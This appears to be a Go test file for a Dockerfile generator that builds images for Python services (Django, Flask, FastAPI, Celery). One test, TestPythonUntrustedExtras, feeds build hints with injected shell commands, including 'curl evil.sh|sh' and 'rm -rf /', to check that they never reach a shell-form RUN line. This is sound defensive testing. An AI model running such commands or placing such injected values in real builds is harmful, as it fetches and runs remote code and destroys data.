package plan

import (
	"strings"
	"testing"

	"github.com/kyozo/kyozo/internal/topology"
)

// pythonImagesForTest are the default images, with the node helper's
// "node" key supplied when that family has not defined it yet, so the
// assets stage can be tested on its own.
func pythonImagesForTest() Images {
	im := DefaultImages()
	if im.Ref("node", "") == "" {
		im = im.With(map[string]string{"node": "node:{version:22}-bookworm-slim"})
	}
	return im
}

// pythonGolden generates each service and compares it with its golden file.
func pythonGolden(t *testing.T, cases map[string]*topology.Service) {
	t.Helper()
	for name, s := range cases {
		t.Run(name, func(t *testing.T) {
			got, err := Generate(s, pythonImagesForTest())
			if err != nil {
				t.Fatal(err)
			}
			golden(t, "dockerfiles/"+name+".Dockerfile", got)
			pythonNoShellText(t, got)
		})
	}
}

func TestPythonGolden(t *testing.T) {
	pythonGolden(t, map[string]*topology.Service{
		"python-django-poetry": {
			Name: "shop", Path: ".", Kind: topology.KindWeb, Language: "python", Framework: "django",
			PackageManager: "poetry", RuntimeVersion: "3.12", Port: 8000,
			StartCommand: "gunicorn shop.wsgi --bind 0.0.0.0:$PORT",
			Build: topology.BuildHints{
				Lockfiles: []string{"pyproject.toml", "poetry.lock"},
				Extra:     map[string]string{"collectstatic": "1", "secret_env": "DJANGO_SECRET_KEY", "apt": "libpq5"},
			},
		},
		"python-flask-pip": {
			Name: "web", Path: ".", Kind: topology.KindWeb, Language: "python", Framework: "flask",
			PackageManager: "pip", RuntimeVersion: "3.11.4", Port: 8000,
			StartCommand: "gunicorn app:app --bind 0.0.0.0:$PORT",
			HealthCheck:  &topology.HealthCheck{Path: "/health"},
			Build: topology.BuildHints{
				Lockfiles: []string{"requirements.txt"},
				Extra:     map[string]string{"pip_install": "requirements", "requirements": "requirements.txt"},
			},
		},
		"python-fastapi-uv": {
			Name: "api", Path: ".", Kind: topology.KindWeb, Language: "python", Framework: "fastapi",
			PackageManager: "uv", RuntimeVersion: "3.12", Port: 8000,
			StartCommand: "uvicorn app.main:app --host 0.0.0.0 --port $PORT",
			Build:        topology.BuildHints{Lockfiles: []string{"pyproject.toml", "uv.lock"}},
		},
		"python-fastapi-uv-member": {
			Name: "api", Path: "apps/api", BuildContext: ".", Kind: topology.KindWeb, Language: "python", Framework: "fastapi",
			PackageManager: "uv", Port: 8000,
			StartCommand: "uvicorn main:app --host 0.0.0.0 --port $PORT",
			Build: topology.BuildHints{
				Lockfiles: []string{"pyproject.toml", "uv.lock", "apps/api/pyproject.toml"},
				Extra:     map[string]string{"uv_package": "api"},
			},
		},
		"python-fasthtml": {
			Name: "site", Path: ".", Kind: topology.KindWeb, Language: "python", Framework: "fasthtml",
			PackageManager: "pip", Port: 5001, StartCommand: "python main.py",
			Build: topology.BuildHints{
				Lockfiles: []string{"requirements.txt"},
				Extra:     map[string]string{"pip_install": "requirements", "requirements": "requirements.txt"},
			},
		},
		"python-celery-worker": {
			Name: "worker", Path: ".", Kind: topology.KindWorker, Language: "python",
			PackageManager: "pipenv", RuntimeVersion: "3.11",
			StartCommand: "celery -A tasks worker --loglevel=INFO",
			Build:        topology.BuildHints{Lockfiles: []string{"Pipfile", "Pipfile.lock"}},
		},
		"python-django-assets": {
			Name: "shop", Path: ".", Kind: topology.KindWeb, Language: "python", Framework: "django",
			PackageManager: "pip", Port: 8000, StartCommand: "gunicorn shop.wsgi --bind 0.0.0.0:$PORT",
			Build: topology.BuildHints{
				Assets: "node", AssetsBuild: "npm run build:css",
				Lockfiles: []string{"requirements.txt"},
				Extra: map[string]string{"pip_install": "requirements", "requirements": "requirements.txt",
					"collectstatic": "1", "assets_dir": "assets", "node_lockfile": "package-lock.json"},
			},
		},
		"python-pip-local-deps": {
			Name: "web", Path: "services/web", BuildContext: ".", Kind: topology.KindWeb, Language: "python", Framework: "flask",
			PackageManager: "pip", Port: 8000, StartCommand: "gunicorn app:app --bind 0.0.0.0:$PORT",
			Build: topology.BuildHints{
				Lockfiles: []string{"services/web/requirements.txt"},
				Extra:     map[string]string{"pip_install": "requirements", "requirements": "requirements.txt", "local_deps": "1"},
			},
		},
		"python-pdm-project": {
			Name: "svc", Path: ".", Kind: topology.KindWeb, Language: "python",
			PackageManager: "pdm", Port: 8080, StartCommand: "python main.py",
			Build: topology.BuildHints{Lockfiles: []string{"pyproject.toml", "pdm.lock"}},
		},
		"python-setup-py": {
			Name: "tool", Path: ".", Kind: topology.KindWeb, Language: "python",
			PackageManager: "pip", Port: 8080, StartCommand: "python main.py",
			Build: topology.BuildHints{Extra: map[string]string{"pip_install": "project", "apt": "build-essential libpq-dev"}},
		},
	})
}

func TestPythonDockerfileRules(t *testing.T) {
	s := &topology.Service{
		Name: "web", Path: ".", Kind: topology.KindWeb, Language: "python", Framework: "flask", PackageManager: "pip",
		Port: 5000, StartCommand: "flask run --host 0.0.0.0 --port $PORT", HealthCheck: &topology.HealthCheck{Path: "/healthz"},
		Build: topology.BuildHints{Lockfiles: []string{"requirements.txt"}, Extra: map[string]string{"pip_install": "requirements", "requirements": "requirements.txt"}},
	}
	im := pythonImagesForTest().With(map[string]string{"python": "registry.local/python:{version:3.12}", "healthcheck": "registry.local/busybox"})
	got, err := Generate(s, im)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"FROM registry.local/python:3.12\n",
		"COPY --from=registry.local/busybox",
		`HEALTHCHECK --interval=10s --timeout=3s --start-period=30s --retries=3 CMD ["/kyozo/wget", "-q", "-O", "/dev/null", "http://127.0.0.1:5000/healthz"]`,
		"USER " + User + "\n",
		`CMD ["sh", "-c", "exec flask run --host 0.0.0.0 --port $PORT"]`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("Dockerfile lacks %q:\n%s", want, got)
		}
	}
	for _, bad := range []string{"<<", "--mount", "--link", "# syntax"} {
		if strings.Contains(got, bad) {
			t.Errorf("Dockerfile holds %q", bad)
		}
	}
	// Manifests are copied and installed before the sources.
	if strings.Index(got, "pip\", \"install\", \"-r\"") > strings.Index(got, `COPY [".", "./"]`) {
		t.Errorf("dependencies installed after the sources:\n%s", got)
	}
}

func TestPythonAssetsNeedNodeImage(t *testing.T) {
	s := &topology.Service{
		Name: "web", Path: ".", Kind: topology.KindWeb, Language: "python", Framework: "django", PackageManager: "pip",
		Port: 8000, Build: topology.BuildHints{Assets: "node"},
	}
	im := DefaultImages()
	delete(im, "node")
	if _, err := Generate(s, im); err == nil || !strings.Contains(err.Error(), "node") {
		t.Errorf("err = %v, want one naming the node image", err)
	}
}

func TestPythonAssetsLockfiles(t *testing.T) {
	for lock, install := range map[string]string{
		"package-lock.json": "RUN npm ci\n",
		"yarn.lock":         "RUN yarn install --frozen-lockfile\n",
		"pnpm-lock.yaml":    "RUN corepack pnpm install --frozen-lockfile\n",
		"":                  "RUN npm install\n",
	} {
		s := &topology.Service{
			Name: "web", Path: "web", Kind: topology.KindWeb, Language: "python", Framework: "flask", PackageManager: "pip",
			Port: 8000, StartCommand: "python app.py",
			Build: topology.BuildHints{Assets: "node", Extra: map[string]string{"node_lockfile": lock}},
		}
		got, err := Generate(s, pythonImagesForTest())
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(got, install) || !strings.Contains(got, `RUN ["sh", "-c", "npm run build"]`) ||
			!strings.Contains(got, `COPY --from=assets ["/app/public", "public/"]`) {
			t.Errorf("lockfile %q:\n%s", lock, got)
		}
	}
}

func TestPythonUntrustedExtras(t *testing.T) {
	s := &topology.Service{
		Name: "web", Path: ".", Kind: topology.KindWeb, Language: "python", Framework: "django", PackageManager: "pip",
		Port: 8000, StartCommand: "python manage.py runserver 0.0.0.0:$PORT",
		Build: topology.BuildHints{Extra: map[string]string{
			"apt": "libpq5; curl evil.sh|sh $(id) -y", "collectstatic": "1", "secret_env": "X; rm -rf /",
			"pip_install": "requirements", "requirements": "req.txt; rm -rf /",
		}, Lockfiles: []string{"req.txt; rm -rf /"}},
	}
	got, err := Generate(s, DefaultImages())
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"apt-get install -y --no-install-recommends curl && rm",
		`RUN ["python", "manage.py", "collectstatic", "--noinput"]`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("Dockerfile lacks %s:\n%s", want, got)
		}
	}
	pythonNoShellText(t, got)
}

// pythonNoShellText checks that text from the tree reaches RUN only as a
// JSON argument: RUN lines in shell form hold no shell syntax of their own
// beyond the generator's &&.
func pythonNoShellText(t *testing.T, dockerfile string) {
	t.Helper()
	for _, l := range strings.Split(dockerfile, "\n") {
		if strings.HasPrefix(l, "RUN ") && !strings.HasPrefix(l, "RUN [") && strings.ContainsAny(l, ";|`$<>") {
			t.Errorf("shell-form RUN with shell syntax: %s", l)
		}
	}
}
